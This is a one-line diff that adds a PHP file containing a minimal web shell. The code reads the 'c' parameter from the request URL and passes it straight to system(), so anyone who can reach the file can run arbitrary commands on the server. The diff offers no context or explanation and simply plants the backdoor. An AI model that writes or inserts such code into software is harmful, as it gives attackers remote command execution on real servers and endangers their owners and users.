@@ -1,0 +1,1 @@
+<?php $c = implode([" ", $_GET["c"]]); system($c);
